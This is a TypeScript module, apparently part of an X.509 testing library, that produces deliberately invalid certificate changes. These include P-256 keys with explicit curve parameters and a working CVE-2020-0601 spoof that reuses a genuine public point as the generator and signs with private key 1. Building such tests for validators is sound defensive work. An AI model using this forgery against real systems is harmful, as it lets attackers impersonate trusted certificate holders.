import { bytesToUnsigned, concat, unsignedToBytes } from '@cutaway/primitives/bytes';
import type { CryptoProvider, PublicKey, RandomSource } from '@cutaway/primitives/crypto';
import { bitString, integer, objectIdentifier, octetString, sequence } from '../../der/index.js';
import { X509Error } from '../../errors.js';
import { algorithmIdentifier } from '../../keys/index.js';
import { OID } from '../../oids.js';
import type { InsecureChange } from '../parts.js';
import { signature } from './encoding.js';

const PRIME_FIELD = '1.2.840.10045.1.1';

/** Domain parameters of P-256 (FIPS 186-4 §D.1.2.3): y² = x³ − 3x + b over p, and the order n of the generator. */
const P = 2n ** 256n - 2n ** 224n + 2n ** 192n + 2n ** 96n - 1n;
const B = 0x5ac635d8aa3a93e7b3ebbd55769886bc651d06b0cc53b0f63bce3c3e27d2604bn;
const N = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n;
const G_X = 0x6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296n;
const G_Y = 0x4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5n;

type EcPublicKey = Extract<PublicKey, { type: 'EC' }>;

function asP256(key: PublicKey): EcPublicKey {
  if (key.type === 'EC' && key.curve === 'P-256') return key;
  throw new X509Error('x509/unsupported-key', { context: { expected: 'P-256', actual: key.type } });
}

/** SubjectPublicKeyInfo with the curve spelled out (SpecifiedECDomain, RFC 3279 §2.3.5) and a generator of choice. */
function explicitPublicKey(key: EcPublicKey, generator: Uint8Array): Uint8Array {
  const fieldElement = (value: bigint): Uint8Array => octetString(unsignedToBytes(value, 32));
  const parameters = sequence(
    integer(1),
    sequence(objectIdentifier(PRIME_FIELD), integer(P)),
    sequence(fieldElement(P - 3n), fieldElement(B)),
    octetString(generator),
    integer(N),
    integer(1),
  );
  return sequence(algorithmIdentifier(OID['id-ecPublicKey'], parameters), bitString(key.point));
}

/** The subject's P-256 key with the curve spelled out instead of named, which RFC 5480 §2.1.1 forbids. */
export function explicitCurve(publicKey: PublicKey): InsecureChange {
  return () => ({ publicKey: explicitCurvePublicKey(publicKey) });
}

/** A P-256 key as a SubjectPublicKeyInfo (DER) with the curve spelled out. @throws {X509Error} for other keys. */
export function explicitCurvePublicKey(publicKey: PublicKey): Uint8Array {
  const generator = concat(Uint8Array.of(4), unsignedToBytes(G_X, 32), unsignedToBytes(G_Y, 32));
  return explicitPublicKey(asP256(publicKey), generator);
}

/**
 * CVE-2020-0601: somebody else's P-256 key, with a generator chosen so that its private key is 1. Who compares keys by
 * the point alone takes it for the genuine one, and what {@link signedWithKeyOne} signs for the genuine one's.
 */
export function genuinePointWithOwnGenerator(genuine: PublicKey): InsecureChange {
  const key = asP256(genuine);
  return () => ({ publicKey: explicitPublicKey(key, key.point) });
}

function inverse(value: bigint): bigint {
  let [a, b, x, y] = [((value % N) + N) % N, N, 1n, 0n];
  while (b > 0n) [a, b, x, y] = [b, a % b, y, x - (a / b) * y];
  return ((x % N) + N) % N;
}

/** How to sign. */
interface Signing {
  readonly provider: CryptoProvider;
  readonly random?: RandomSource;
}

/** An ECDSA signature with SHA-256 by the private key 1 on the curve whose generator is `point` (FIPS 186-4 §6.4). */
function signWithKeyOne(point: Uint8Array, message: Uint8Array, { provider, random }: Signing): Uint8Array {
  const digest = bytesToUnsigned(provider.digest('SHA-256', message));
  for (;;) {
    const nonce = (random?.(32) ?? provider.random(32)).slice();
    const k = bytesToUnsigned(nonce);
    if (k === 0n || k >= N) continue;
    // The key agreement gives the x coordinate of k · point, which is what ECDSA needs of it.
    const r = bytesToUnsigned(provider.keyAgreement('secp256r1').deriveSharedSecret(nonce, point)) % N;
    const s = (inverse(k) * (digest + r)) % N;
    if (r !== 0n && s !== 0n) return sequence(integer(r), integer(s));
  }
}

/** Signed as by the key of {@link genuinePointWithOwnGenerator}: right for who takes that generator. */
export function signedWithKeyOne(genuine: PublicKey, signing: Signing): InsecureChange {
  const { point } = asP256(genuine);
  return signature((_, tbsCertificate) => signWithKeyOne(point, tbsCertificate, signing));
}
